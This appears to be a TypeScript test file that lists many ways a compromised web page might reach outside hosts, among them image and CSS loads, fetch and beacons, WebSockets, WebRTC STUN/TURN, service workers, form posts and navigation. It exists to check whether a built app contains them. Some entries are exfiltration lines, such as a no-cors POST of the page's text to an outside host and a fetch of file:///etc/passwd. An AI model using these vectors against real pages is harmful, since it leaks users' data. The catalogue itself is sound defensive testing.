// What a page that has turned against its owner may try in order to reach something outside. Run in the real page of the built app.

export type Attack = {
  name: string
  /** Code for the page; `host` is a name of the attack's own, so that what arrives can be told apart, `port` one of this machine. */
  code(host: string, port: number): string
  /** Takes the page away if it comes through: tried one at a time. */
  leaves?: true
}

/** Addresses nobody has (RFC 5737, RFC 3849), and the ports of what stands ready for the attacks that name no host. */
export const LITERAL_V4 = '203.0.113.99'
export const LITERAL_V6 = '2001:db8::99'
export const LOOPBACK_PORT = 8080

const add = (tag: string, set: string, into = 'document.body') => `{ const made = document.createElement('${tag}'); ${set}; ${into}.append(made) }`
const link = (rel: string, extra = '', path = '/x') => (host: string) => add('link', `made.rel = '${rel}'; ${extra}; made.href = 'https://${host}${path}'`, 'document.head')
const css = (text: (host: string) => string) => (host: string) => add('style', `made.append(${JSON.stringify(text(host))})`, 'document.head') + add('div', `made.className = 'hit'; made.textContent = 'x'`)
const styled = (property: string, value: (host: string) => string) => (host: string) => add('div', `made.style.setProperty('${property}', ${JSON.stringify(value(host))}); made.textContent = 'x'; made.style.width = made.style.height = '20px'`)
const source = (tag: string, property = 'src', extra = '') => (host: string) => add(tag, `${extra}; made.${property} = 'https://${host}/x'`)
const clicked = (extra: string) => (host: string) => add('a', `made.href = 'https://${host}/x'; ${extra}; made.textContent = 'x'; setTimeout(() => made.click())`)
const stun = (url: string) => `{ const peer = new RTCPeerConnection({ iceServers: [${url}] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); (globalThis.kept ??= []).push(peer) }`
const svg = (tag: string) => (host: string) => `{ const space = 'http://www.w3.org/2000/svg'; const outer = document.createElementNS(space, 'svg'); const made = document.createElementNS(space, '${tag}'); made.setAttribute('href', 'https://${host}/x#y'); outer.append(made); document.body.append(outer) }`

export const ATTACKS: Attack[] = [
  { name: 'img', code: source('img') },
  { name: 'img-srcset', code: source('img', 'srcset') },
  { name: 'picture', code: (host) => `{ const outer = document.createElement('picture'); const made = document.createElement('source'); made.srcset = 'https://${host}/x'; outer.append(made, new Image()); document.body.append(outer) }` },
  { name: 'css-url', code: styled('background-image', (host) => `url(https://${host}/x)`) },
  { name: 'css-image-set', code: styled('background-image', (host) => `image-set("https://${host}/x" 1x)`) },
  { name: 'css-mask', code: styled('mask-image', (host) => `url(https://${host}/x)`) },
  { name: 'css-filter', code: styled('filter', (host) => `url(https://${host}/x#y)`) },
  { name: 'css-cursor', code: styled('cursor', (host) => `url(https://${host}/x), auto`) },
  { name: 'css-import', code: css((host) => `@import "https://${host}/x";`) },
  { name: 'css-font-face', code: css((host) => `@font-face { font-family: theirs; src: url(https://${host}/x) } .hit { font-family: theirs }`) },
  { name: 'font-face-api', code: (host) => `new FontFace('other', 'url(https://${host}/x)').load().catch(() => 0)` },
  { name: 'stylesheet', code: link('stylesheet') },
  { name: 'script', code: source('script') },
  { name: 'import-call', code: (host) => `import('https://${host}/x').catch(() => 0)` },
  { name: 'modulepreload', code: link('modulepreload') },
  { name: 'iframe', code: source('iframe') },
  { name: 'iframe-srcdoc', code: (host) => add('iframe', `made.srcdoc = '<img src=https://${host}/x>'`) },
  { name: 'iframe-blank-fetch', code: (host) => `{ const made = document.createElement('iframe'); document.body.append(made); made.contentWindow.fetch('https://${host}/x').catch(() => 0) }` },
  { name: 'object', code: source('object', 'data') },
  { name: 'embed', code: source('embed') },
  { name: 'video', code: source('video') },
  { name: 'video-poster', code: source('video', 'poster') },
  { name: 'audio', code: source('audio') },
  { name: 'track', code: (host) => `{ const outer = document.createElement('video'); outer.crossOrigin = 'anonymous'; const made = document.createElement('track'); made.default = true; made.kind = 'subtitles'; made.src = 'https://${host}/x'; outer.append(made); document.body.append(outer); made.track.mode = 'showing' }` },
  { name: 'svg-image', code: svg('image') },
  { name: 'svg-use', code: svg('use') },
  { name: 'fetch', code: (host) => `fetch('https://${host}/x').catch(() => 0)` },
  { name: 'fetch-no-cors-post', code: (host) => `fetch('https://${host}/x', { method: 'POST', mode: 'no-cors', body: document.body.textContent }).catch(() => 0)` },
  { name: 'fetch-keepalive', code: (host) => `fetch('https://${host}/x', { keepalive: true, mode: 'no-cors' }).catch(() => 0)` },
  { name: 'xhr', code: (host) => `{ const made = new XMLHttpRequest(); made.open('GET', 'https://${host}/x'); made.send() }` },
  { name: 'beacon', code: (host) => `navigator.sendBeacon('https://${host}/x', 'x')` },
  { name: 'ping', code: (host) => add('a', `made.href = '#x'; made.ping = 'https://${host}/x'; made.textContent = 'x'; setTimeout(() => made.click())`) },
  { name: 'websocket', code: (host) => `new WebSocket('wss://${host}/x')` },
  { name: 'eventsource', code: (host) => `new EventSource('https://${host}/x')` },
  { name: 'webtransport', code: (host) => `new WebTransport('https://${host}/x').ready.catch(() => 0)` },
  { name: 'worker', code: (host) => `new Worker(URL.createObjectURL(new Blob(["fetch('https://${host}/x')"])))` },
  { name: 'shared-worker', code: (host) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('https://${host}/x')"])))` },
  { name: 'service-worker', code: (host) => `navigator.serviceWorker.register('https://${host}/x').catch(() => 0)` },
  { name: 'prefetch', code: link('prefetch') },
  { name: 'preload', code: link('preload', `made.as = 'image'`) },
  { name: 'preconnect', code: link('preconnect') },
  { name: 'dns-prefetch', code: link('dns-prefetch') },
  { name: 'speculation-rules', code: (host) => add('script', `made.type = 'speculationrules'; made.textContent = ${JSON.stringify(JSON.stringify({ prefetch: [{ source: 'list', urls: [`https://${host}/x`], eagerness: 'immediate' }] }))}`, 'document.head') },
  { name: 'manifest', code: link('manifest') },
  { name: 'favicon', code: link('icon') },
  { name: 'source-map', code: (host) => `setTimeout('0\\n//# sourceMappingURL=https://${host}/x')` },
  { name: 'base', code: (host) => `{ const base = document.createElement('base'); base.href = 'https://${host}/'; document.head.append(base); const image = new Image(); image.src = 'relative'; setTimeout(() => base.remove()) }` },
  { name: 'rtc-stun-name', code: (host) => stun(`{ urls: 'stun:${host}:3478' }`) },
  { name: 'rtc-turn-tcp-name', code: (host) => stun(`{ urls: 'turn:${host}:3479?transport=tcp', username: 'x', credential: 'y' }`) },
  { name: 'rtc-stun-literal', code: () => stun(`{ urls: 'stun:${LITERAL_V4}:3480' }`) },
  { name: 'literal-v4', code: () => `new Image().src = 'https://${LITERAL_V4}/x'` },
  { name: 'literal-v6', code: () => `new Image().src = 'https://[${LITERAL_V6}]/x'` },
  { name: 'loopback', code: (_host, port) => `new Image().src = 'http://127.0.0.1:${port}/loopback'` },
  { name: 'localhost', code: (_host, port) => `fetch('http://localhost:${port}/localhost', { mode: 'no-cors' }).catch(() => 0)` },
  { name: 'file', code: () => `fetch('file:///etc/passwd').catch(() => 0); new Image().src = 'file:///etc/passwd'` },
  // After all images: it forbids them to see its own report sent.
  { name: 'report-uri', code: (host) => add('meta', `made.httpEquiv = 'Content-Security-Policy'; made.content = "img-src 'none'; report-uri https://${host}/x"`, 'document.head') + `setTimeout(() => (new Image().src = 'data:,'), 50)` },
  { name: 'download', code: clicked(`made.download = 'x'`), leaves: true },
  { name: 'blank-link', code: clicked(`made.target = '_blank'; made.rel = 'opener'`), leaves: true },
  { name: 'window-open', code: (host) => `window.open('https://${host}/x')`, leaves: true },
  { name: 'link', code: clicked(''), leaves: true },
  { name: 'location', code: (host) => `location.href = 'https://${host}/x'`, leaves: true },
  { name: 'navigate-api', code: (host) => `navigation.navigate('https://${host}/x')`, leaves: true },
  { name: 'meta-refresh', code: (host) => add('meta', `made.httpEquiv = 'refresh'; made.content = '0; url=https://${host}/x'`, 'document.head'), leaves: true },
  { name: 'form-post', code: (host) => add('form', `made.method = 'post'; made.action = 'https://${host}/x'; setTimeout(() => made.submit())`), leaves: true },
]

/** Each in a task of its own, where nothing of the driver is on the stack; what it throws is its own affair. */
export function codeFor(attacks: readonly Attack[], hostOf: (attack: Attack) => string, port = LOOPBACK_PORT): string {
  return `${attacks.map((attack) => `setTimeout(() => { try { ${attack.code(hostOf(attack), port)} } catch {} })`).join('\n')}\n'tried'`
}
